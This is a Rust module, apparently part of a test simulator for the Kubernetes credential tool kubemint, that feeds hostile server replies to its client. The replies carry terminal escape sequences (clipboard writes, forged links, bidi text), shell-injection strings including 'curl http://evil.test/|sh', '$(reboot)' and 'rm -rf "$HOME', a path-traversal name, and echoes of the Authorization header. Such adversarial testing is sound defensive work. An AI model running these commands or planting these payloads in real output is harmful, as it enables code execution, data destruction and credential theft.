//! Text that attacks a terminal, a shell, a log, a browser or a path.
//!
//! Pure. What a terminal may do with such text is why a client must never print it as it came.

use serde_json::{Map, Value, json};

use super::answer::{each_object, rewrite};
use super::bodies::fabricated;
use super::mode::Hostility;
use super::writes::failure;
use crate::identity::derived_uid;
use crate::sim::request::{Reply, Request};

/// Where kubemint keeps its index on a ServiceAccount.
pub(super) const INDEX_ANNOTATION: &str = "kubemint.dev/credentials";

/// Colours, a cleared screen, a link, a clipboard, a forged report, reversed and invisible text.
pub(super) const ESCAPES: [&str; 10] = [
    "\u{1b}[2J\u{1b}[1;31mred",
    "\u{1b}]8;;http://evil.test/\u{7}click\u{1b}]8;;\u{7}",
    "\u{1b}]52;c;ZXZpbA==\u{7}",
    "\u{9b}31mred",
    "left\rright",
    "\n2 clusters: 2 changed\n",
    "\u{202e}desrever\u{202c}\u{202a}\u{202b}\u{202d}",
    "\u{2066}isolated\u{2069}\u{2067}\u{2068}",
    "zero\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}width\u{200e}\u{200f}\u{61c}",
    "\u{2028}line\u{2029}paragraph\u{85}next\u{0}nul\u{7f}",
];

/// What a shell would run if a name were pasted into a command.
const COMMANDS: [&str; 6] = [
    "x; curl http://evil.test/|sh #",
    "$(reboot)",
    "`id`",
    "' || touch evil '",
    "--kubeconfig=/etc/shadow",
    "x\" && rm -rf \"$HOME",
];

/// A name that leads out of where it stands in a path.
const TRAVERSAL: &str = "../../../../api/v1/namespaces/monitoring/services/x/proxy/";

/// Answers what never reaches the honest server.
pub(super) fn answer_to_all(mode: &Hostility, request: &Request) -> Option<Reply> {
    if *mode != Hostility::EchoCredentialsHtml {
        return None;
    }
    let seen = request.header("authorization");
    let html = format!("<html><body><h1>502 Bad Gateway</h1><pre>Authorization: {seen}</pre></body></html>");
    Some(Reply { content_type: "text/html", ..Reply::text(502, html) })
}

/// Refuses a write that the honest server would have carried out.
pub(super) fn refuse(mode: &Hostility, request: &Request) -> Option<Reply> {
    let word = spoken(mode, request)?;
    Some(refusal(403, "Forbidden", "forbidden", &word))
}

/// Adds words to what the honest server refused.
pub(super) fn decorate_refusal(mode: &Hostility, request: &Request, reply: Reply) -> Reply {
    let Some(word) = spoken(mode, request) else {
        return reply;
    };
    let status: Value = serde_json::from_slice(&reply.body).unwrap_or_default();
    let said = |field: &str| status[field].as_str().unwrap_or_default().to_owned();
    let mut refused = refusal(reply.code, &said("reason"), &said("message"), &word);
    refused.headers.extend(reply.headers);
    refused
}

/// What the mode says in refusals.
fn spoken(mode: &Hostility, request: &Request) -> Option<String> {
    match mode {
        Hostility::EscapeText | Hostility::EscapeErrors => Some(ESCAPES.concat()),
        Hostility::EchoCredentials => {
            let seen = request.header("authorization");
            let token = seen.rsplit(' ').next().unwrap_or_default();
            Some(format!("Authorization: {seen}, <b>{seen}</b>, token={token}"))
        }
        Hostility::ShellText => Some(COMMANDS.join(" ")),
        _ => None,
    }
}

/// Refuses in a way that has `word` wherever a server has the word.
fn refusal(code: u16, reason: &str, message: &str, word: &str) -> Reply {
    let mut status = failure(code, &format!("{reason}{word}"), &format!("{message}: {word}"));
    status["details"] = json!({
        "name": word,
        "kind": word,
        "causes": [{ "reason": word, "message": word, "field": word }],
    });
    let mut reply = Reply::json(code, &status);
    // Only what HTTP lets through; bidirectional marks are among it.
    let sendable: String = word.chars().filter(|c| !c.is_control()).collect();
    reply.headers.push(("www-authenticate", format!("Bearer realm={sendable}")));
    reply.with_warning(&sendable)
}

/// Puts words into every object of an answer.
pub(super) fn decorate(mode: &Hostility, request: &Request, reply: Reply) -> Reply {
    if *mode == Hostility::TraversalIndex {
        return rewrite(reply, |value| each_object(value, lead_astray));
    }
    let echo;
    let words: &[&str] = match mode {
        Hostility::EscapeText => &ESCAPES,
        Hostility::ShellText => &COMMANDS,
        _ => {
            echo = request.header("authorization");
            &[echo]
        }
    };
    let reply = rewrite(reply, |value| {
        each_object(value, |object| inscribe(object, words));
        if *mode == Hostility::ShellText && value["items"].is_array() {
            let more: Vec<Value> = words.iter().map(|word| fabricated(request, value, word)).collect();
            value["items"].as_array_mut().expect("it was an array a line above").extend(more);
        }
    });
    if *mode == Hostility::EscapeText {
        return reply.with_warning(ESCAPES[6]);
    }
    reply
}

/// Writes `words` all over an object.
fn inscribe(object: &mut Value, words: &[&str]) {
    let is_role = object["rules"].is_array();
    if is_role {
        let rule = json!({ "apiGroups": [""], "resources": words, "verbs": words });
        object["rules"].as_array_mut().expect("it was an array a line above").push(rule);
    }
    if let Some(subjects) = object["subjects"].as_array_mut() {
        subjects.extend(words.iter().map(|word| json!({ "kind": "User", "name": word })));
    }
    let Some(metadata) = object["metadata"].as_object_mut() else {
        return;
    };
    for (index, word) in words.iter().enumerate() {
        for field in ["labels", "annotations"] {
            let texts = metadata.entry(field).or_insert_with(|| json!({}));
            texts[format!("word-{index}")] = (*word).into();
            texts[*word] = "word".into();
        }
        let manager = json!({
            "manager": word,
            "operation": "Update",
            "apiVersion": "v1",
            "time": "2026-01-01T00:00:00Z",
            "fieldsType": "FieldsV1",
            "fieldsV1": { "f:rules": {}, "f:subjects": {}, "f:metadata": { "f:labels": { format!("f:word-{index}"): {} } } },
        });
        push(metadata, "managedFields", manager);
        push(metadata, "finalizers", (*word).into());
        let owner = json!({ "apiVersion": "v1", "kind": word, "name": word, "uid": word });
        push(metadata, "ownerReferences", owner);
    }
}

fn push(metadata: &mut Map<String, Value>, field: &str, value: Value) {
    let list = metadata.entry(field).or_insert_with(|| json!([]));
    if let Some(list) = list.as_array_mut() {
        list.push(value);
    }
}

/// Lets the index of a ServiceAccount name anchors and holders that are paths.
fn lead_astray(object: &mut Value) {
    change_index(object, |index| {
        if !index["holders"].is_object() {
            index["holders"] = json!({});
        }
        let generation = json!({
            "n": 1,
            "kind": "token",
            "run": "run",
            "claimed-at": "2026-01-01T00:00:00Z",
            "policy": "policy",
            "anchor": TRAVERSAL,
            "requested-seconds": 3600,
            "anchor-uid": derived_uid(TRAVERSAL),
            "issued": "2026-01-01T00:00:00Z",
            "expires": "2026-01-01T01:00:00Z",
            "published": "2026-01-01T00:00:00Z",
        });
        for chain in index["holders"].as_object_mut().into_iter().flat_map(|holders| holders.values_mut()) {
            for generation in chain["generations"].as_array_mut().into_iter().flatten() {
                generation["anchor"] = TRAVERSAL.into();
            }
        }
        index["holders"][TRAVERSAL] = json!({ "next": 2, "generations": [generation], "exec": true });
    });
}

/// Changes the index of a ServiceAccount that has one.
pub(super) fn change_index(object: &mut Value, change: impl FnOnce(&mut Value)) {
    let annotations = object.pointer_mut("/metadata/annotations");
    let Some(annotation) = annotations.and_then(|annotations| annotations.get_mut(INDEX_ANNOTATION)) else {
        return;
    };
    let Some(mut index) = annotation.as_str().and_then(|text| serde_json::from_str(text).ok()) else {
        return;
    };
    change(&mut index);
    *annotation = index.to_string().into();
}
